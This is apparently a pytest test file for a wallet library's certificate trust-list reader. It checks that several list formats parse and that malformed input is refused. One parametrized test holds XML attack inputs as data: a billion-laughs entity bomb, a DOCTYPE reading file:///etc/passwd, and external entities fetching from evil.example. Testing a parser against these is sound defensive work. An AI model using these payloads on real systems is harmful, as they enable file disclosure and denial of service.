"""Which certificates a trust list holds, in each of its forms, and what is refused."""

import base64
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credwallet.errors import Unreadable
from credwallet.trust.certificates import MAX_BYTES, read_trust_list
from tests.keys.certificates import authority, certificate
from tests.trust.trusted_lists import (
    GRANTED,
    TSA,
    WITHDRAWN,
    identity,
    listed,
    service,
)

FIRST = authority("First")
SECOND = authority("Second")
BOTH = (FIRST.der, SECOND.der)


@pytest.mark.parametrize(
    "data",
    [
        FIRST.pem + SECOND.pem,
        b"First\r\n" + FIRST.pem.replace(b"\n", b"\r\n") + b"# 2\n" + SECOND.pem,
        f"{FIRST.base64}\n\n# the second\n{SECOND.base64}\n".encode(),
        json.dumps([FIRST.base64, SECOND.base64]).encode(),
        json.dumps({"kty": "EC", "x5c": [FIRST.base64, SECOND.base64]}).encode(),
        FIRST.pem + SECOND.pem + FIRST.pem,
        b"\xef\xbb\xbf" + FIRST.pem + SECOND.pem,
        listed(service(FIRST), service(SECOND)),
        listed(service(FIRST, SECOND)),
    ],
    ids=[
        "PEM bundle",
        "PEM with words and CRLF",
        "lines of base64",
        "JSON array",
        "JWK",
        "one of them twice",
        "byte order mark",
        "EU trusted list",
        "one service with two",
    ],
)
def test_every_form_of_a_list_is_read(data):
    assert read_trust_list(data) == BOTH


@pytest.mark.parametrize(
    "data",
    [FIRST.der, FIRST.base64.encode(), FIRST.pem, base64.encodebytes(FIRST.der)],
    ids=["DER", "base64", "PEM", "base64 on many lines"],
)
def test_one_certificate_is_a_list(data):
    assert read_trust_list(data) == (FIRST.der,)


def test_a_real_certificate_as_text_is_read(vectors):
    path = vectors / "credo-ts/sdjwtvc.funkeX509.trustedCertificate.b64.txt"
    data = path.read_bytes()
    assert read_trust_list(data) == (base64.b64decode(data),)


# What a trusted list names and what it does not.


def test_only_authorities_that_are_granted_now_count():
    data = listed(
        service(FIRST),
        service(SECOND, status=WITHDRAWN),
        service(authority("Clock"), kind=TSA),
        service(FIRST, history=identity(authority("Once"))),
    )
    assert read_trust_list(data) == (FIRST.der,)


def test_the_signer_of_the_list_is_not_on_it():
    signer = (
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><KeyInfo><X509Data>'
        f"<X509Certificate>{SECOND.base64}</X509Certificate>"
        "</X509Data></KeyInfo></Signature>"
    )
    assert read_trust_list(listed(service(FIRST), after=signer)) == (FIRST.der,)


def test_what_cannot_be_read_in_a_trusted_list_is_passed_over():
    odd = service().replace(
        "<ServiceDigitalIdentity>",
        "<ServiceDigitalIdentity><DigitalId><X509Certificate>MIIB</X509Certificate>"
        "</DigitalId><DigitalId><X509Certificate>!</X509Certificate></DigitalId>",
    )
    assert read_trust_list(listed(odd, service(FIRST))) == (FIRST.der,)
    with pytest.raises(Unreadable, match="holds no certificate"):
        read_trust_list(listed(odd))


def test_a_list_of_lists_is_not_followed():
    with pytest.raises(Unreadable, match="a list of lists is not followed"):
        read_trust_list(listed())


# Hostile and broken.

ENTITY = '<!DOCTYPE TrustServiceStatusList [<!ENTITY a "aaaa">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">'.replace("a0;", "a;")
        for n in range(1, 40)
    )
    + "]>"
)


@pytest.mark.parametrize(
    "before",
    [
        ENTITY,
        LAUGHS,
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY b SYSTEM "https://evil.example/">]>',
        '<!DOCTYPE x [<!ENTITY % c SYSTEM "https://evil.example/"> %c;]>',
    ],
    ids=["entity", "billion laughs", "document type", "external", "parameter"],
)
def test_a_document_type_or_an_entity_is_refused(before):
    with pytest.raises(Unreadable, match="refused for safety"):
        read_trust_list(listed(service(FIRST), before=before))


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is empty"),
        (b" \n", "is empty"),
        (b"hello, this is a letter", "not base64"),
        (b"<html></html>", "no trusted list"),
        (b"<a", "broken XML"),
        (listed(service(FIRST))[:-4], "broken XML"),
        (b"\x30\x82\x00\x01\x02\xff\xfe", "cannot be read"),
        (FIRST.der[:-1], "cannot be read"),
        (FIRST.pem[:-30], "PEM block in it is broken"),
        (FIRST.pem.replace(b"M", b"!", 1), "PEM block in it is broken"),
        (
            b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----",
            "cannot be read",
        ),
        (b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----", "base64"),
        (b"[]", "holds no certificate"),
        (b"[1]", "no list of base64"),
        (b"{}", "no list of base64"),
        (b'["MIIB"]', "cannot be read"),
        (b'["\xc3\xa9"]', "not base64"),
        (b"[" * 100_000, "nested"),
        (b"x" * (MAX_BYTES + 1), "larger than 10 MiB"),
        (b"<a>" * 100_000, "no trusted list"),
        (listed("<x>" * 100), "nested too deep"),
        (listed().replace(b"UTF-8", b"Shift_JIS"), "in encoding 'Shift_JIS'"),
    ],
)
def test_what_is_no_list_is_refused_and_named(data, words):
    with pytest.raises(Unreadable, match=words):
        read_trust_list(data)


def test_more_certificates_than_any_list_has_are_refused():
    many = json.dumps([FIRST.base64] * 5001).encode()
    with pytest.raises(Unreadable, match="more than 5000"):
        read_trust_list(many)


def test_services_without_end_are_refused_in_time():
    many = listed(*[service(status=GRANTED)] * 20_000)
    with pytest.raises(Unreadable, match="holds no certificate"):
        read_trust_list(many)


@given(st.binary(max_size=60), st.integers(min_value=0, max_value=10_000))
def test_no_bytes_make_anything_but_our_error(noise, place):
    for whole in (noise, FIRST.der, FIRST.pem, listed(service(FIRST))):
        changed = bytearray(whole)
        at = place % (len(changed) + 1)
        changed[at : at + len(noise)] = noise
        try:
            found = read_trust_list(bytes(changed))
        except Unreadable:
            continue
        assert found


def test_a_signer_may_stand_in_a_list():
    signer = certificate("School", by=FIRST)
    assert read_trust_list(signer.pem) == (signer.der,)
